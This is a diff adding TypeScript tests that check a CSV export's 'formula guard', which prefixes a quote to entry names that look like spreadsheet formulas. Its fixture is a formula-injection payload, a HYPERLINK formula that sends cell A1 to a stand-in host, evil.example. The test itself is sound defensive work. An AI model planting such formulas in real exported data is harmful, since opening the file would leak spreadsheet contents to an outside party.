@@ -196,6 +196,51 @@ describe('string-params source (getCsvFromStringParams)', () => {
   });
 });
 
+describe('formula guard (an entry named like a spreadsheet formula)', () => {
+  const FORMULA = (id: string) => `=HYPERLINK("https://evil.example/?leak="&A1,"Watch ${id}")`;
+
+  it.each([
+    { guard: undefined, expected: (id: string) => `'${FORMULA(id)}`, recorded: true },
+    { guard: true, expected: (id: string) => `'${FORMULA(id)}`, recorded: true },
+    { guard: false, expected: FORMULA, recorded: false },
+  ])('a table export with csv.formulaGuard $guard writes the name guarded: $recorded, and the manifest says so', async ({ guard, expected, recorded }) => {
+    // Prepare
+    const message = makeMessage(
+      { kind: 'export', name: `names-${String(guard)}`, scope: 'entry', source: { type: 'table', reportType: 1 }, ...(guard !== undefined ? { csv: { formulaGuard: guard } } : {}) },
+      { notification: { object: { id: '1_formula', status: 2 } } },
+    );
+    // Act
+    const { deadLetters } = await deliver(message);
+    // Assess
+    expect(deadLetters.letters).toEqual([]);
+    const { manifest, csv } = await readBack(`${base}/names-${String(guard)}/1_formula/${message.window.label}.manifest.json`);
+    const [header, row] = parseCsv(csv.toString('utf8'));
+    const cell = (name: string) => row![header!.indexOf(name)]!;
+    expect(cell('entry_name')).toBe(expected('1_formula'));
+    expect(cell('count_plays')).toMatch(/^\d+$/);
+    expect(manifest.formulaGuard).toBe(recorded);
+  });
+
+  it('a string-params export guards the entry_name cells of the unquoted file Kaltura sends', async () => {
+    // Prepare
+    const message = makeMessage(
+      { kind: 'export', name: 'views', scope: 'virtual-event', source: { type: 'string-params', reportId: 3007, params: { virtual_event_id: '{object.id}', entry_ids: '1_formula' } } },
+      { rule: 'virtual-event', notification: { object: { id: '778' } } },
+    );
+    // Act
+    const { deadLetters } = await deliver(message);
+    // Assess: Kaltura replaced the commas by spaces; the guard put a quote in front.
+    expect(deadLetters.letters).toEqual([]);
+    const { manifest, csv } = await readBack(`reports/virtual-event/views/778/${message.window.label}.manifest.json`);
+    // Read as Kaltura writes it: unquoted cells, one line per row (its quotes are text, not CSV quoting).
+    const [header, ...rows] = csv.toString('utf8').trimEnd().split('\n').map((line) => line.split(','));
+    const names = rows.map((r) => r[header!.indexOf('entry_name')]);
+    expect(names.length).toBeGreaterThan(0);
+    for (const name of names) expect(name).toBe(`'${FORMULA('1_formula').replace(/,/g, ' ')}`);
+    expect(manifest).toMatchObject({ formulaGuard: true, rows: rows.length });
+  });
+});
+
 describe('runExportNow (kreports export)', () => {
   it('reports progress in rows, pages and bytes while an ad-hoc export runs', async () => {
     // Prepare
